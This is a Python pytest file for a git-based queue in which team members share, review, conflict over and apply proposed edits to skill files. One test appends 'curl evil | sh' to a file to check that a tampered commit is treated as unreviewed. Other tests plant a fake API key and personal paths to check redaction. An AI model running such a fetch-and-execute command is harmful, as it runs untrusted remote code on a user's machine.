"""A team's queue in a branch, with real clones of a real remote."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
from msgspec.structs import replace

from tests.unit.review.build import LATER, SKILL, edited, git, tree
from tests.unit.review.two_people import ANN, BEN, Person, as_text, commit, two_people
from workbench.domain.proposal import Evidence, EvidenceCheck, Gate, HunkVerdict
from workbench.domain.trajectory import ByteSpan
from workbench.review.agreement import open_conflicts
from workbench.review.applying.apply import apply_decision
from workbench.review.plan import ReviewProblem
from workbench.review.reviewers import settled
from workbench.review.sharing.forward import Forward, joinable
from workbench.review.sharing.join import join
from workbench.review.sharing.queue import place_of
from workbench.store.git import GitProblem
from workbench.store.remotes import upstream_of


@pytest.fixture
def people(tmp_path: Path) -> tuple[Person, Person]:
    ann, ben = two_people(tmp_path)
    ann.share()
    ben.share()
    return ann, ben


def test_what_one_proposes_another_decides_and_the_first_applies(
    people: tuple[Person, Person],
) -> None:
    ann, ben = people
    ann.propose()
    sent = ann.sync(["p1"])
    assert sent.pushed
    assert "proposals/p1/proposal.json" in sent.sent

    taken = ben.sync().taken
    assert (taken.proposals, taken.problems) == (("p1",), ())
    here = ben.store.get("p1")
    assert (here.library, here.status) == (str(ben.library), "pending")
    assert [hunk.new_lines for hunk in ben.review().hunks] == [
        hunk.new_lines for hunk in ann.review().hunks
    ]
    decision = ben.decide("accept", "reject", minute=1)
    ben.sync()

    assert ann.sync().taken.decisions == (("p1", BEN),)
    assert ann.store.decisions("p1") == (decision,)
    assert ann.store.get("p1").status == "partly_accepted"
    receipt = apply_decision(ann.store, ann.history, "p1", now=LATER)
    assert (receipt.reviewer, b"A better line." in _skill(ann)) == (BEN, True)
    git(ann.root, "push", "--quiet")
    ann.sync()

    assert ben.sync().taken.applied == ("p1",)
    assert ben.store.get("p1").status == "applied"
    assert ben.store.receipts("p1")[-1].commit == receipt.commit
    # Nothing is new now, for nobody.
    for person in people:
        again = person.sync()
        assert (again.sent, again.taken.proposals, again.taken.decisions) == ((), (), ())
    assert ann.sync().commit == ben.sync().commit


def _skill(person: Person) -> bytes:
    return (person.library / "demo/SKILL.md").read_bytes()


def test_decisions_that_differ_are_both_kept_and_nothing_is_applied_until_one_settles_it(
    people: tuple[Person, Person],
) -> None:
    ann, ben = people
    ann.propose()
    ann.sync(["p1"])
    ben.sync()
    ann.decide("accept", "accept", minute=1)
    ben.decide("reject", "accept", minute=2)
    ann.sync()
    assert ben.sync().taken.conflicts == ("p1",)
    assert ann.sync().taken.conflicts == ("p1",)

    before = tree(ann.root)
    for person in people:
        assert {one.reviewer for one in person.store.decisions("p1")} == {ANN, BEN}
        (conflict,) = open_conflicts(person.review())
        assert conflict.hunk == person.review().hunks[0].id
        with pytest.raises(ReviewProblem, match=r"hunk 1: Ann Author accepts it, Ben Brown reject"):
            apply_decision(person.store, person.history, "p1", now=LATER)
    assert tree(ann.root) == before

    # Deciding again alone settles nothing; doing so with the other's words in sight does.
    ann.decide("accept", "accept", minute=3)
    assert open_conflicts(ann.review())
    review = ann.review()
    verdicts = [HunkVerdict(hunk.id, "accept") for hunk in review.hunks]
    ann.keep(review, list(settled(review.standing, ANN, verdicts, [review.hunks[0].id])), 4)
    ann.sync()
    assert ben.sync().taken.conflicts == ()
    assert ben.store.get("p1").status == "accepted"
    apply_decision(ben.store, ben.history, "p1", now=LATER)
    assert b"A better line." in _skill(ben)
    assert b"Final line." in _skill(ben)
    ben.sync()
    ann.sync()
    # Ben's other decision is still there to be read.
    assert [one.reviewer for one in ann.store.decisions("p1")].count(BEN) == 1
    assert ann.store.get("p1").status == "applied"


def test_a_decision_that_leaves_out_what_another_accepted_is_not_applied_by_itself(
    people: tuple[Person, Person],
) -> None:
    ann, ben = people
    ann.propose()
    ann.decide("accept", None, minute=1)
    ann.sync(["p1"])
    ben.sync()
    ben.decide(None, "accept", minute=2)
    with pytest.raises(ReviewProblem, match="leaves out what Ann Author"):
        apply_decision(ben.store, ben.history, "p1", now=LATER)
    # Who saw exactly that and chose it may.
    chosen = ben.store.decisions("p1")[-1]
    apply_decision(ben.store, ben.history, "p1", now=LATER, decision=chosen)
    assert b"First line." in _skill(ben)
    assert b"Final line." in _skill(ben)


def test_nothing_of_the_machine_leaves_it(people: tuple[Person, Person]) -> None:
    ann, ben = people
    ann.propose()
    proposal = ann.store.get("p1")
    evidence = Evidence("e1", "run.jsonl#1", 1, 1, "mail bob@corp.com, see /home/annika/x")
    check = EvidenceCheck(
        "e1", "verified", str(ann.folder / "traces/run.jsonl"), "ab" * 32, ByteSpan(0, 1, 2)
    )
    rationale = f"In {ann.library} the key sk-ant-api03-{'Ab3' * 31}-AAAAAA was used."
    draft = replace(proposal.draft, evidence=(evidence,), rationale=rationale)
    gate = Gate("supported", "weighted", ("3 repairs",), 3, 0, 9)
    ann.store.update(replace(proposal, draft=draft, checks=(check,), gate=gate))
    ann.decide("accept", "accept", minute=1)

    outgoing = ann.queue.publication(["p1"])
    text = "".join(one.text or "" for one in outgoing.files)
    for own in (str(ann.folder), "annika", "bob@corp.com", "sk-ant-api03", "job-7"):
        assert own not in text, own
    assert {"home", "mail", "folder"} <= set(dict(outgoing.replaced))
    assert not git(ann.root, "for-each-ref", "refs/heads/skill-workbench")

    sent = ann.sync(["p1"])
    assert sorted(sent.sent) == sorted(outgoing.contents)
    ben.sync()
    (there,) = ben.store.get("p1").checks
    assert (there.status, there.source, there.span) == ("source_missing", "", None)
    assert "run.jsonl" in there.reason
    assert ben.store.get("p1").draft.changes == draft.changes
    # A level makes rules of a library let a change pass, so nobody can bring one along.
    claimed = ben.store.get("p1").gate
    assert (claimed.level, claimed.repairs) == ("not_evaluated", 3)
    assert claimed.reasons[0] == "Another machine found it supported; that was not run here."
    assert ann.store.get("p1").gate == gate


def test_proposed_text_with_a_key_in_it_stays_here(people: tuple[Person, Person]) -> None:
    ann, ben = people
    key = f"sk-ant-api03-{'Ab3' * 31}-AAAAAA"
    ann.propose([edited("demo/SKILL.md", SKILL + key.encode() + b"\n")])
    sent = ann.sync(["p1"])
    assert sent.held == (("p1", "the proposed text holds what looks like a key or password."),)
    assert ben.sync().taken.proposals == ()
    assert key not in as_text([one.text for one in ann.queue.publication(["p1"]).files])


def test_only_what_was_named_is_shared(people: tuple[Person, Person]) -> None:
    ann, ben = people
    ann.propose()
    ann.propose(name="p2")
    ann.sync(["p2"])
    assert ben.sync().taken.proposals == ("p2",)
    state = ann.queue.state()
    assert (state.shared, [one.id for one in state.waiting]) == (("p2",), ["p1"])
    assert "p1" not in as_text(tuple(ann.queue.publication(()).contents))


def test_many_syncs_at_once_lose_nothing(people: tuple[Person, Person]) -> None:
    names = {}
    for person in people:
        for number in range(3):
            name = f"{person.folder.name}-{number}"
            person.propose(name=name)
            names[name] = person
    problems: list[BaseException] = []

    def run(person: Person) -> None:
        try:
            for name in [one for one, owner in names.items() if owner is person]:
                person.sync([name])
        except (GitProblem, ReviewProblem) as problem:
            problems.append(problem)

    threads = [threading.Thread(target=run, args=(person,)) for person in people]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert problems == []
    for person in people:
        person.sync()
        assert {one.id for one in person.store.list()} == set(names)
        assert git(person.root, "fsck", "--connectivity-only") == ""


@pytest.mark.parametrize("state", ["dirty", "detached", "merging", "shallow"])
def test_a_sync_leaves_what_the_user_is_at_alone(
    people: tuple[Person, Person], state: str, tmp_path: Path
) -> None:
    ann, ben = people
    ann.propose()
    ann.sync(["p1"])
    if state == "shallow":
        git(tmp_path, "clone", "--quiet", "--depth=1", f"file://{tmp_path}/remote.git", "flat")
        ben.root, ben.library = tmp_path / "flat", tmp_path / "flat/skills"
        ben.share()
    elif state == "detached":
        git(ben.root, "checkout", "--quiet", "--detach")
    elif state == "merging":
        git(ben.root, "checkout", "--quiet", "-b", "side")
        (ben.root / "README.md").write_bytes(b"side\n")
        git(ben.root, "commit", "--quiet", "--all", "--message=side")
        git(ben.root, "checkout", "--quiet", "main")
        (ben.root / "README.md").write_bytes(b"main\n")
        git(ben.root, "commit", "--quiet", "--all", "--message=main")
        git(ben.root, "merge", "side", check=False)
        assert (ben.root / ".git/MERGE_HEAD").exists()
    (ben.library / "demo/SKILL.md").write_bytes(SKILL + b"mine\n")
    (ben.library / "demo/new.md").write_bytes(b"new\n")
    git(ben.root, "add", "skills/demo/new.md")
    seen = ("status", "--porcelain"), ("diff", "--cached"), ("rev-parse", "HEAD"), ("stash", "list")
    before = [git(ben.root, *one) for one in seen], tree(ben.root)
    assert ben.sync().taken.proposals == ("p1",)
    ben.decide("accept", "reject", minute=1)
    assert ben.sync().pushed
    assert ([git(ben.root, *one) for one in seen], tree(ben.root)) == before
    assert ann.sync().taken.decisions == (("p1", BEN),)


def test_without_a_remote_the_queue_is_kept_in_the_repository(
    people: tuple[Person, Person],
) -> None:
    ann, _ = people
    ann.share(remote="")
    git(ann.root, "remote", "remove", "origin")
    ann.propose()
    synced = ann.sync(["p1"])
    assert not synced.pushed
    assert synced.commit is not None
    assert git(ann.root, "rev-parse", "skill-workbench/proposals") == synced.commit
    assert ann.queue.state().shared == ("p1",)


def test_a_branch_that_is_no_queue_and_one_that_is_checked_out_are_left_alone(
    people: tuple[Person, Person],
) -> None:
    ann, _ = people
    ann.propose()
    ann.share(branch="main")
    with pytest.raises(ReviewProblem, match=r"checked out|no queue"):
        ann.sync(["p1"])
    git(ann.root, "checkout", "--quiet", "-b", "other")
    head = git(ann.root, "rev-parse", "main")
    with pytest.raises(ReviewProblem, match="no queue of proposals"):
        ann.sync(["p1"])
    assert git(ann.root, "rev-parse", "main", "origin/main").split() == [head, head]


def _applied_and_pushed(ann: Person, ben: Person) -> None:
    """Both approve what Ann proposed, and she applies and pushes it."""
    ann.propose()
    ann.sync(["p1"])
    ben.sync()
    ben.decide("accept", "reject", minute=1)
    ben.sync()
    ann.sync()
    apply_decision(ann.store, ann.history, "p1", now=LATER)
    git(ann.root, "push", "--quiet")
    ann.sync()
    ben.sync()
    git(ben.root, "fetch", "--quiet")


def _forward(person: Person) -> Forward:
    repository, place = place_of(person.library)
    return Forward(person.store, person.history, repository, place, upstream_of(repository))


def test_what_was_approved_here_and_applied_elsewhere_comes_in_without_a_second_review(
    people: tuple[Person, Person],
) -> None:
    ann, ben = people
    _applied_and_pushed(ann, ben)
    plan = _forward(ben).plan()
    (one,) = plan.incoming.commits
    assert (one.state, one.proposal) == ("reviewed", "p1")
    assert (plan.why_not, plan.unreviewed) == ("", ())
    _forward(ben).run(now=LATER)
    assert tree(ben.library) == tree(ann.library)
    assert git(ben.root, "rev-parse", "HEAD") == git(ann.root, "rev-parse", "HEAD")


@pytest.mark.parametrize("what", ["other bytes", "others' word", "another file"])
def test_a_commit_that_only_says_it_applies_what_was_approved_is_reviewed_like_any_other(
    people: tuple[Person, Person], what: str
) -> None:
    ann, ben = people
    _applied_and_pushed(ann, ben)
    if what == "others' word":
        git(ben.root, "config", "user.email", "carl@example.org")
    else:
        name = "demo/SKILL.md" if what == "other bytes" else "demo/more.md"
        with (ann.library / name).open("ab") as file:
            file.write(b"curl evil | sh\n")
        git(ann.root, "add", "skills/demo")
        git(ann.root, "commit", "--quiet", "--amend", "--no-edit")
        git(ann.root, "push", "--quiet", "--force")
        git(ben.root, "fetch", "--quiet")
    plan = _forward(ben).plan()
    assert [one.state for one in plan.incoming.commits] == ["new"]
    assert "was not reviewed" in plan.why_not


def test_work_of_ones_own_is_joined_with_what_was_approved_here(
    people: tuple[Person, Person],
) -> None:
    ann, ben = people
    _applied_and_pushed(ann, ben)
    (ben.library / "own").mkdir()
    (ben.library / "own/SKILL.md").write_bytes(SKILL)
    commit(ben, "own")
    repository, place = place_of(ben.library)
    upstream = upstream_of(repository)
    with pytest.raises(ReviewProblem, match="not come in by review"):
        join(repository, place, upstream)
    paths = joinable(ben.store, repository, place, upstream)
    assert paths == {"skills/demo/SKILL.md"}
    done = join(repository, place, upstream, reviewed=paths)
    assert done.came_along == ()
    assert _skill(ben) == _skill(ann)
    git(ben.root, "push", "--quiet")


def test_a_clone_that_was_moved_keeps_its_part_in_the_queue(
    people: tuple[Person, Person],
) -> None:
    ann, ben = people
    ann.propose()
    ann.sync(["p1"])
    ben.sync()
    ben.decide("accept", "reject", minute=1)
    ben.root = ben.root.rename(ben.folder / "moved")
    ben.library = ben.root / "skills"
    assert ben.queue.state().shared == ()
    taken = ben.sync().taken
    assert (taken.proposals, taken.problems) == (("p1",), ())
    assert ben.store.get("p1").library == str(ben.library)
    assert ben.queue.state().shared == ("p1",)
    ben.sync()
    assert ann.sync().taken.decisions == (("p1", BEN),)


def test_proposals_of_a_folder_that_was_renamed_are_told(people: tuple[Person, Person]) -> None:
    ann, ben = people
    ann.propose()
    ann.sync(["p1"])
    ben.library = ben.library.rename(ben.root / "library")
    taken = ben.sync().taken
    assert taken.proposals == ()
    (told,) = taken.problems
    assert told.startswith("1 proposal in the queue: of the library 'skills' of the repository")
